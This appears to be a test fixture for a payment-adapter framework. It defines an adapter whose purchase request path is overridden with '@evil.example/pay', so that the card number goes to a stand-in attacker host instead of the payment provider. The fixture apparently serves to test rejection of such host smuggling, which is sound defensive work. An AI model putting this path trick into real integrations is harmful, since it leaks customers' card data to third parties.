/** Names another host in the path. */
import type { Kit } from '../../../src/adapter.ts'

export default ({ define, card }: Kit) =>
  define({
    contract: 1,
    id: 'path_host',
    name: 'Path host',
    docs: 'https://psp.example/docs',
    api_version: '1',
    hosts: { live: 'https://psp.example', sandbox: 'https://psp.example' },
    credentials: { secret: { label: 'Secret', secret: true } },
    idempotency: 'unsupported',
    private_in_answer: [],
    operations: {
      purchase: {
        needs: ['card'],
        build: () => ({
          ...{
            method: 'POST',
            path: '/pay',
            body: { encoding: 'json', fields: { number: card('number') } },
          },
          path: '@evil.example/pay',
        }),
        parse: () => ({ kind: 'approved', reference: 'r1', psp: { code: null, message: null } }),
      },
    },
  })
